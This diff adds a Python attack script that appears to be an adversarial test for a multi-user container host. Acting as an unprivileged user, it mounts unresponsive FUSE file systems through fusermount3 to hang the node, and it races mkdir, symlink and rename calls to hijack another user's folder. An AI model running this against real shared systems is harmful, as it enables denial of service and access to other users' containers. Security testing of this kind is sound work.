@@ -1,0 +1,64 @@
+#!/usr/bin/python3
+"""
+What a user tries who wants another's containers, or the node out of service. Runs as that user, without any right.
+
+Usage: attack.py SECONDS VICTIM FOLDER... (numbers of seconds and of a user; folders that hold folders of users)
+Prints what it got hold of, and goes on until the time is over.
+"""
+
+import array
+import itertools
+import os
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+
+def hang(point: Path) -> int:
+    """Mount a file system that never answers; it stays while the number that is returned is open."""
+    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    environment = {**os.environ, "_FUSE_COMMFD": str(theirs.fileno())}
+    subprocess.run(["/usr/bin/fusermount3", "--", str(point)], env=environment, pass_fds=[theirs.fileno()], check=True)
+    _, ancillary, _, _ = ours.recvmsg(1, socket.CMSG_SPACE(4))
+    return array.array("i", ancillary[0][2])[0]
+
+
+def tricks(folder: Path, victim: str, number: int) -> list:
+    """Return the ways to get between root and the victim's folder."""
+    theirs = folder / f"user-{victim}"
+    bait = folder / f"bait-{os.getpid()}-{number}"
+    prize = Path.home() / "prize"
+    return [
+        lambda: theirs.mkdir(mode=0o777),
+        lambda: theirs.symlink_to(prize),
+        lambda: bait.mkdir(mode=0o777),
+        lambda: (bait / "trap").write_text("run me"),
+        lambda: bait.rename(theirs),
+        lambda: theirs.rename(bait),
+    ]
+
+
+def main() -> None:
+    """Try all tricks again and again."""
+    end, victim, folders = time.monotonic() + float(sys.argv[1]), sys.argv[2], [Path(name) for name in sys.argv[3:]]
+    (Path.home() / "prize").mkdir(exist_ok=True)
+    held = [hang(folder / f"user-{os.getuid()}") for folder in folders]
+    print(f"holds {len(held)}", flush=True)
+    won = set()
+    for number in itertools.count():
+        for folder in folders:
+            for trick, attempt in enumerate(tricks(folder, victim, number)):
+                try:
+                    attempt()
+                    won.add(f"trick {trick} in {folder}")
+                except OSError:
+                    pass
+        if time.monotonic() > end:
+            break
+    print("\n".join(sorted(won)) or "won nothing", flush=True)
+
+
+if __name__ == "__main__":
+    main()
